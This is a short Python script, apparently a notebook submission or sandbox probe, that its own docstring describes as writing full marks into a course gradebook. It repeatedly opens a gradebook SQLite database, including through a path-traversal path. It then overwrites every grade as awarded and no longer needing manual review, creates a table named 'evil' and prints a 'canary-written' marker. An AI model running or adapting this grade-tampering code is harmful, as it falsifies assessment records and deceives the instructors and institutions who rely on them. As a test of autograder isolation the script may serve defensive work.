"""Writes full marks for every test into the gradebook, now and when asked."""
# ruff: noqa

# %% build_decoder
import sqlite3
import threading
import time


def cheat(seconds):
    end = time.time() + seconds
    while time.time() < end:
        for path in ("COURSE_FOLDER/gradebook.db", "../../../gradebook.db"):
            try:
                database = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
                database.execute("update base_cell set max_score = 100") if 0 else None
                changed = database.execute("update grade set manual_score = 1, needs_manual_grade = 0").rowcount
                database.execute("create table if not exists evil (a)")
                database.commit()
                print("canary-written", changed)
            except sqlite3.Error:
                pass
        time.sleep(0.1)


cheat(0.3)
